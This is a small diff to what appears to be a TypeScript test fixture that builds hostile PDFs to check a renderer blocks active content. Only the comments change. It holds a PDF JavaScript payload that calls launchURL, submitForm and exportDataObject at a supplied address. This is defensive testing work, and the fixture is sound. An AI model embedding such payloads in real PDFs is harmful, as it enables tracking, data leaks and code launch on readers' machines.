@@ -1,7 +1,7 @@
 import { type MadeObject, makePdf } from './made-pdf';
 import { writtenPages } from './written-pdf';
 
-/** A PDF that tries something, and how it must end: drawn as a picture, or not shown with a reason. */
+/** A hostile PDF and its expected outcome: drawn as a picture, or not shown with a reason. */
 export interface HostilePdf {
   readonly name: string;
   readonly bytes: Buffer;
@@ -34,7 +34,7 @@ const stream = (number: number, dictionary: string, text: string): MadeObject =>
 
 const whole = '/Type /Annot /Rect [0 0 595 842]';
 
-/** Each kind of what a PDF can do, aimed at `address` (a server that must hear nothing) and `file` (must not appear). */
+/** Each kind of active content, aimed at `address` (its server must receive nothing) and `file` (must not appear). */
 export function hostilePdfs(address: string, file: string): readonly HostilePdf[] {
   const script = `app.launchURL('${address}/js', true); app.alert('x'); this.submitForm('${address}/form'); this.exportDataObject({ cName: 'x', nLaunch: 2 });`;
   const js = `<< /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}) >>`;
